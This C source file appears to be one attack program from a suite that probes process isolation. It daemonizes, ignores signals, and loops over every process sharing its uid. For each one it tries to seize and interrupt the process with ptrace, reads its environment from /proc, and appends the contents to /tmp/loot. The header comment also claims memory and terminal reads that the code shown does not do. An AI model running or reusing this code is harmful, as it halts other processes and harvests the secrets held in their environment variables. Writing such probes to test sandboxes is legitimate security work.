/* Traces whatever else has its uid, and reads what it can of it: memory, environment, terminal. */
#include "attack.h"

static unsigned long traced, tried;

static void strike(pid_t pid) {
    char path[64], buffer[4096];
    tried++;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        traced++;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t length = read(fd, buffer, sizeof buffer);
    close(fd);
    int loot = open("/tmp/loot", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (length > 0 && loot >= 0 && write(loot, buffer, length) < 0) return;
    close(loot);
}

int main(void) {
    be_deaf();
    daemonize();
    /* Something of its own to be traced, as a proof. */
    if (fork() == 0)
        for (;;) pause();
    for (unsigned long looks = 1;; looks++) {
        each_of(getuid(), strike);
        if (looks % 20 == 1) prove("traces", traced), prove("looks", looks);
    }
}
